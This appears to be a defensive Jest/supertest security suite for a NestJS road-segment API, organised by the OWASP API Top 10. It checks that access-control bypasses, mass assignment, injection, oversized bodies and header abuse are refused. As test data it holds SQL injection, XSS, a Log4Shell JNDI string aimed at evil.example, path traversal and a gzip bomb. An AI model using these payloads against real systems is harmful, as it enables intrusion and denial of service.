import { gzipSync } from 'node:zlib';
import { NestExpressApplication } from '@nestjs/platform-express';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { agentFor, signIn, type TestUser } from './support/auth';
import { startTestApp } from './support/test-app';

const API = '/api/v1';
const SEGMENTOS = `${API}/segmentos/`;
const VALID = { nombre: 'Calle 26', longitud: -74.1, latitud: 4.65 };

type Agent = ReturnType<typeof request.agent>;
type Who = 'anonymous' | 'viewer' | 'editor' | 'admin';

/** One hostile request: who sends it, how, and the one answer a correct API gives. */
interface Attack {
  name: string;
  who: Who;
  send: (agent: Agent, ids: Ids) => request.Test;
  status: number;
}

interface Ids {
  segment: number;
  viewer: string;
  admin: string;
}

/** Sends the bytes as they are (superagent would re-encode a body whose type is JSON; its types say string). */
const raw = (test: request.Test, body: string | Buffer) => test.serialize(() => body as string).send(body);

const json = (agent: Agent, method: 'post' | 'put' | 'patch', path: string, body: string) =>
  agent[method](path).set('Content-Type', 'application/json').send(body);

/**
 * OWASP API Security Top 10 (2023) as a checklist. API6 (business flows: login brute force, AI
 * budgets), API7 (SSRF: no endpoint takes a URL) and API10 (the AI upstream's answers) are covered
 * by the auth and AI suites or have no surface here.
 */
const ATTACKS: Attack[] = [
  // API1 — object-level authorisation: another user's records.
  {
    name: 'API1 viewer reads another user',
    who: 'viewer',
    send: (a, i) => a.get(`${API}/users/${i.admin}`),
    status: 403,
  },
  {
    name: 'API1 editor promotes another user',
    who: 'editor',
    send: (a, i) => a.patch(`${API}/users/${i.viewer}`).send({ role: 'admin' }),
    status: 403,
  },
  {
    name: 'API1 editor deletes another user',
    who: 'editor',
    send: (a, i) => a.delete(`${API}/users/${i.admin}`),
    status: 403,
  },

  // API2 — broken authentication.
  {
    name: 'API2 token in the query string',
    who: 'anonymous',
    send: (a) => a.get(`${SEGMENTOS}?access_token=x.y.z`),
    status: 401,
  },
  {
    name: 'API2 Basic scheme',
    who: 'anonymous',
    send: (a) => a.get(SEGMENTOS).set('Authorization', 'Basic YTpi'),
    status: 401,
  },
  {
    name: 'API2 empty bearer',
    who: 'anonymous',
    send: (a) => a.get(SEGMENTOS).set('Authorization', 'Bearer '),
    status: 401,
  },
  {
    name: 'API2 8 KB garbage bearer',
    who: 'anonymous',
    send: (a) => a.get(SEGMENTOS).set('Authorization', `Bearer ${'A'.repeat(8192)}`),
    status: 401,
  },
  {
    name: 'API2 operator object as login email',
    who: 'anonymous',
    send: (a) => a.post(`${API}/auth/login`).send({ email: { $ne: null }, password: { $gt: '' } }),
    status: 422,
  },
  {
    name: 'API2 array as refresh token',
    who: 'anonymous',
    send: (a) => a.post(`${API}/auth/refresh`).send({ refresh_token: ['a', 'b'] }),
    status: 422,
  },
  {
    name: 'API2 SQL in login email',
    who: 'anonymous',
    send: (a) => a.post(`${API}/auth/login`).send({ email: "admin@x.co' OR '1'='1", password: 'whatever-password' }),
    status: 422,
  },

  // API3 — object property level: mass assignment of fields the server owns.
  {
    name: 'API3 id on create',
    who: 'editor',
    send: (a) => a.post(SEGMENTOS).send({ ...VALID, id_segmento: 1 }),
    status: 422,
  },
  {
    name: 'API3 created_at on create',
    who: 'editor',
    send: (a) => a.post(SEGMENTOS).send({ ...VALID, created_at: '2000-01-01T00:00:00Z' }),
    status: 422,
  },
  {
    name: 'API3 updated_at on patch',
    who: 'editor',
    send: (a, i) => a.patch(`${SEGMENTOS}${i.segment}`).send({ updated_at: '2000-01-01T00:00:00Z' }),
    status: 422,
  },
  {
    name: 'API3 role in a password change',
    who: 'viewer',
    send: (a) =>
      a
        .put(`${API}/auth/me/password`)
        .send({ current_password: 'x', new_password: 'a-new-long-password', role: 'admin' }),
    status: 422,
  },
  {
    name: 'API3 password hash and flags on user create',
    who: 'admin',
    send: (a) =>
      a.post(`${API}/users`).send({
        email: 'mass@recway.co',
        password: 'a-long-password-1',
        role: 'viewer',
        password_hash: '$2b$10$x',
        must_change_password: false,
      }),
    status: 422,
  },
  {
    name: 'API3 email change through user update',
    who: 'admin',
    send: (a, i) => a.patch(`${API}/users/${i.viewer}`).send({ email: 'taken@recway.co' }),
    status: 422,
  },

  // API4 — resource consumption.
  { name: 'API4 page of a million', who: 'viewer', send: (a) => a.get(`${SEGMENTOS}?limit=1000000`), status: 422 },
  { name: 'API4 negative skip', who: 'viewer', send: (a) => a.get(`${SEGMENTOS}?skip=-1`), status: 422 },
  { name: 'API4 skip past 2^53', who: 'viewer', send: (a) => a.get(`${SEGMENTOS}?skip=1e20`), status: 422 },
  {
    name: 'API4 radius of the planet',
    who: 'viewer',
    send: (a) => a.get(`${SEGMENTOS}?near=4.6,-74&radius=40000000`),
    status: 422,
  },
  {
    name: 'API4 10 KB search text',
    who: 'viewer',
    send: (a) => a.get(`${SEGMENTOS}?q=${'a'.repeat(10_000)}`),
    status: 422,
  },
  {
    name: 'API4 20 000 unknown fields',
    who: 'editor',
    send: (a) =>
      a.post(SEGMENTOS).send({ ...VALID, ...Object.fromEntries([...Array(20_000).keys()].map((n) => [`f${n}`, n])) }),
    status: 422,
  },
  {
    name: 'API4 a million-item array',
    who: 'editor',
    send: (a) => json(a, 'post', SEGMENTOS, `{"nombre": [${'0,'.repeat(999_999)}0], "longitud": 1, "latitud": 2}`),
    status: 422,
  },
  {
    name: 'API4 300-character Idempotency-Key',
    who: 'editor',
    send: (a) => a.post(SEGMENTOS).set('Idempotency-Key', 'k'.repeat(300)).send(VALID),
    status: 422,
  },
  {
    name: 'API4 gzip bomb (10 MB of zeros, 10 KB on the wire)',
    who: 'editor',
    send: (a) =>
      raw(
        a.post(SEGMENTOS).set('Content-Type', 'application/json').set('Content-Encoding', 'gzip'),
        gzipSync(`{"nombre": "${'0'.repeat(11 * 1024 * 1024)}"}`),
      ),
    status: 413,
  },

  // API5 — function-level authorisation.
  { name: 'API5 viewer creates', who: 'viewer', send: (a) => a.post(SEGMENTOS).send(VALID), status: 403 },
  {
    name: 'API5 viewer updates',
    who: 'viewer',
    send: (a, i) => a.put(`${SEGMENTOS}${i.segment}`).send(VALID),
    status: 403,
  },
  { name: 'API5 viewer deletes', who: 'viewer', send: (a, i) => a.delete(`${SEGMENTOS}${i.segment}`), status: 403 },
  {
    name: 'API5 viewer imports',
    who: 'viewer',
    send: (a) => a.post(`${SEGMENTOS}import`).set('Content-Type', 'text/csv').send('nombre,longitud,latitud\nx,1,2\n'),
    status: 403,
  },
  { name: 'API5 editor lists users', who: 'editor', send: (a) => a.get(`${API}/users`), status: 403 },
  {
    name: 'API5 editor creates an admin',
    who: 'editor',
    send: (a) => a.post(`${API}/users`).send({ email: 'x@recway.co', password: 'a-long-password-1', role: 'admin' }),
    status: 403,
  },
  {
    name: 'API5 method override header is ignored',
    who: 'viewer',
    send: (a, i) => a.get(`${SEGMENTOS}${i.segment}`).set('X-HTTP-Method-Override', 'DELETE'),
    status: 200,
  },

  // API8 — misconfiguration: unexpected methods, foreign versions.
  { name: 'API8 TRACE', who: 'viewer', send: (a) => a.trace(SEGMENTOS), status: 404 },
  { name: 'API8 unknown API version', who: 'viewer', send: (a) => a.get('/api/v2/segmentos/'), status: 404 },

  // Injection through every parameter that reaches SQL.
  { name: 'INJ sort', who: 'viewer', send: (a) => a.get(`${SEGMENTOS}?sort=nombre;DROP TABLE segmentos`), status: 422 },
  { name: 'INJ sort subquery', who: 'viewer', send: (a) => a.get(`${SEGMENTOS}?sort=(SELECT 1)`), status: 422 },
  { name: 'INJ path id', who: 'viewer', send: (a) => a.get(`${SEGMENTOS}1 OR 1=1`), status: 422 },
  {
    name: 'INJ bbox',
    who: 'viewer',
    send: (a) => a.get(`${SEGMENTOS}?bbox=1,2,3,4);DROP TABLE segmentos;--`),
    status: 422,
  },
  { name: 'INJ near', who: 'viewer', send: (a) => a.get(`${SEGMENTOS}?near=1,1'--&radius=10`), status: 422 },
  { name: 'INJ q is a literal', who: 'viewer', send: (a) => a.get(`${SEGMENTOS}?q=' OR 1=1 --`), status: 200 },

  // Malformed and mistyped bodies.
  { name: 'BODY array instead of object', who: 'editor', send: (a) => json(a, 'post', SEGMENTOS, '[]'), status: 422 },
  { name: 'BODY null', who: 'editor', send: (a) => json(a, 'post', SEGMENTOS, 'null'), status: 422 },
  { name: 'BODY bare string', who: 'editor', send: (a) => json(a, 'post', SEGMENTOS, '"nombre"'), status: 422 },
  {
    name: 'BODY truncated JSON',
    who: 'editor',
    send: (a) => json(a, 'post', SEGMENTOS, '{"nombre": "x", "lon'),
    status: 422,
  },
  {
    name: 'BODY number as string',
    who: 'editor',
    send: (a) => a.post(SEGMENTOS).send({ ...VALID, latitud: '4.6' }),
    status: 422,
  },
  {
    name: 'BODY infinity (1e999)',
    who: 'editor',
    send: (a) => json(a, 'post', SEGMENTOS, '{"nombre": "x", "longitud": 1e999, "latitud": 1}'),
    status: 422,
  },
  {
    name: 'BODY boolean as text',
    who: 'editor',
    send: (a) => a.post(SEGMENTOS).send({ ...VALID, nombre: true }),
    status: 422,
  },
  {
    name: 'BODY form-encoded create',
    who: 'editor',
    send: (a) => a.post(SEGMENTOS).type('form').send('nombre=x&longitud=1&latitud=2'),
    status: 422,
  },
  {
    name: 'BODY text/plain create',
    who: 'editor',
    send: (a) => a.post(SEGMENTOS).set('Content-Type', 'text/plain').send(JSON.stringify(VALID)),
    status: 422,
  },
  {
    name: 'BODY Latin-1 charset',
    who: 'editor',
    send: (a) =>
      raw(a.post(SEGMENTOS).set('Content-Type', 'application/json; charset=iso-8859-1'), JSON.stringify(VALID)),
    status: 415,
  },
  {
    name: 'BODY unknown Content-Encoding',
    who: 'editor',
    send: (a) =>
      a
        .post(SEGMENTOS)
        .set('Content-Type', 'application/json')
        .set('Content-Encoding', 'x-evil')
        .send(JSON.stringify(VALID)),
    status: 415,
  },
  {
    name: 'BODY corrupt gzip',
    who: 'editor',
    send: (a) =>
      a.post(SEGMENTOS).set('Content-Type', 'application/json').set('Content-Encoding', 'gzip').send('not gzip at all'),
    status: 400,
  },
  {
    name: 'BODY NUL in text',
    who: 'editor',
    send: (a) => a.post(SEGMENTOS).send({ ...VALID, nombre: 'a\u0000b' }),
    status: 422,
  },
  {
    name: 'BODY lone surrogate',
    who: 'editor',
    send: (a) => json(a, 'post', SEGMENTOS, '{"nombre": "a\\ud800b", "longitud": 1, "latitud": 2}'),
    status: 422,
  },
  { name: 'BODY huge path id', who: 'viewer', send: (a) => a.get(`${SEGMENTOS}99999999999999999999999`), status: 422 },
  { name: 'BODY zero path id', who: 'viewer', send: (a) => a.get(`${SEGMENTOS}0`), status: 422 },

  // Header abuse.
  {
    name: 'HDR stale If-Match on update',
    who: 'editor',
    send: (a, i) => a.put(`${SEGMENTOS}${i.segment}`).set('If-Match', '"garbage"').send(VALID),
    status: 412,
  },
  {
    name: 'HDR Idempotency-Key with spaces',
    who: 'editor',
    send: (a) => a.post(SEGMENTOS).set('Idempotency-Key', 'two words').send(VALID),
    status: 422,
  },
  {
    name: 'HDR forged X-Forwarded-For is ignored',
    who: 'viewer',
    send: (a) => a.get(SEGMENTOS).set('X-Forwarded-For', '1.2.3.4, <script>'),
    status: 200,
  },
  {
    name: 'HDR XML accept still gets JSON',
    who: 'viewer',
    send: (a) => a.get(SEGMENTOS).set('Accept', 'application/xml'),
    status: 200,
  },
  {
    name: 'HDR garbage If-None-Match',
    who: 'viewer',
    send: (a, i) => a.get(`${SEGMENTOS}${i.segment}`).set('If-None-Match', '\u00ff\u00fe*,,"'),
    status: 200,
  },
];

/** What must not change when an attack is refused: every table a request can write. */
const STATE_SQL = `SELECT (SELECT md5(coalesce(string_agg(s::text, '|' ORDER BY id_segmento), '')) FROM segmentos s) AS segmentos,
  (SELECT md5(coalesce(string_agg(u.email || u.role || u.is_active || u.password_hash, '|' ORDER BY u.id), '')) FROM usuarios u) AS usuarios,
  (SELECT count(*) FROM idempotency_keys) AS idempotency_keys`;

describe('Adversarial suite (OWASP API Security Top 10 2023)', () => {
  let app: NestExpressApplication;
  const agents = {} as Record<Who, Agent>;
  const users = {} as Record<Exclude<Who, 'anonymous'>, TestUser>;
  let ids: Ids;
  const state = async () => JSON.stringify(await app.get(DataSource).query(STATE_SQL));

  beforeAll(async () => {
    app = await startTestApp();
    agents.anonymous = request.agent(app.getHttpServer());
    for (const role of ['viewer', 'editor', 'admin'] as const) {
      users[role] = await signIn(app, role);
      agents[role] = agentFor(app, users[role]);
    }
    const created = await agents.editor.post(SEGMENTOS).send(VALID).expect(201);
    ids = { segment: created.body.id_segmento as number, viewer: users.viewer.id, admin: users.admin.id };
  });

  afterAll(async () => {
    await app.close();
  });

  it.each(ATTACKS.map((attack) => [attack.name, attack] as const))(
    '%s: the expected answer, a detail on errors, nothing written',
    async (_name, attack) => {
      const before = await state();
      const response = await attack.send(agents[attack.who], ids).timeout(15_000);
      expect({ status: response.status, body: response.body }).toMatchObject({ status: attack.status });
      if (response.status >= 400) expect(response.body).toEqual({ detail: expect.anything() });
      expect(await state()).toBe(before);
    },
  );

  it('should store hostile text and read it back verbatim, as JSON, GeoJSON and CSV', async () => {
    const payloads = [
      "O'Brien",
      "Robert'); DROP TABLE segmentos;--",
      '<script>alert(1)</script>',
      '"><img src=x onerror=alert(1)>',
      '{{7*7}} ${7*7} #{7*7}',
      '${jndi:ldap://evil.example/a}',
      '../../../etc/passwd',
      '\u202Eevil\u202C',
      'null',
      "' OR '1'='1' --",
      '%_\\',
      'Bogotá D.C. 🚧',
    ];
    for (const text of payloads) {
      const created = await agents.editor
        .post(SEGMENTOS)
        .send({ ...VALID, nombre: text, descripcion: text, ubicacion: text })
        .expect(201);
      const id = created.body.id_segmento as number;
      const read = await agents.viewer.get(`${SEGMENTOS}${id}`).expect(200);
      expect(read.body).toMatchObject({ nombre: text, descripcion: text, ubicacion: text });
      const geo = await agents.viewer.get(`${SEGMENTOS}${id}?f=geojson`).expect(200);
      expect(geo.body.properties.nombre).toBe(text);
      const found = await agents.viewer.get(SEGMENTOS).query({ q: text, limit: 1000 }).expect(200);
      expect(found.body.map((item: { id_segmento: number }) => item.id_segmento)).toContain(id);
    }
    const csv = await agents.viewer.get(SEGMENTOS).query({ f: 'csv', limit: 1000 }).expect(200);
    expect(csv.text).toContain("Robert'); DROP TABLE segmentos;--");
    expect(csv.text).toContain('<script>alert(1)</script>');
  });

  it('should keep Idempotency-Keys per user: another user with the same key gets its own result', async () => {
    const other = agentFor(app, await signIn(app, 'editor'));
    const first = await agents.editor.post(SEGMENTOS).set('Idempotency-Key', 'shared-key').send(VALID).expect(201);
    const second = await other
      .post(SEGMENTOS)
      .set('Idempotency-Key', 'shared-key')
      .send({ ...VALID, nombre: 'other' })
      .expect(201);
    expect(second.headers['idempotent-replayed']).toBeUndefined();
    expect(second.body.id_segmento).not.toBe(first.body.id_segmento);
  });

  it('should never expose secrets: no password hash in user answers, no stack in errors, headers on errors too', async () => {
    const me = await agents.admin.get(`${API}/auth/me`).expect(200);
    const list = await agents.admin.get(`${API}/users`).expect(200);
    expect(JSON.stringify([me.body, list.body])).not.toMatch(/password_hash|\$2[aby]\$/);
    const denied = await agents.anonymous.get(SEGMENTOS).expect(401);
    expect(denied.headers['x-content-type-options']).toBe('nosniff');
    expect(denied.headers['x-powered-by']).toBeUndefined();
    expect(JSON.stringify(denied.body)).not.toMatch(/at \w+ \(|node_modules/);
  });

  it('should not grant a foreign origin CORS access, even on a preflight', async () => {
    const preflight = await agents.anonymous
      .options(SEGMENTOS)
      .set('Origin', 'https://evil.example')
      .set('Access-Control-Request-Method', 'DELETE');
    expect(preflight.status).toBeLessThan(500);
    expect(preflight.headers['access-control-allow-origin']).toBeUndefined();
  });

  it('should replace an oversized or hostile X-Request-ID with its own', async () => {
    const response = await agents.viewer
      .get(SEGMENTOS)
      .set('X-Request-ID', `${'a'.repeat(500)}<script>`)
      .expect(200);
    expect(response.headers['x-request-id']).toMatch(/^[0-9a-f-]{36}$/);
  });
});
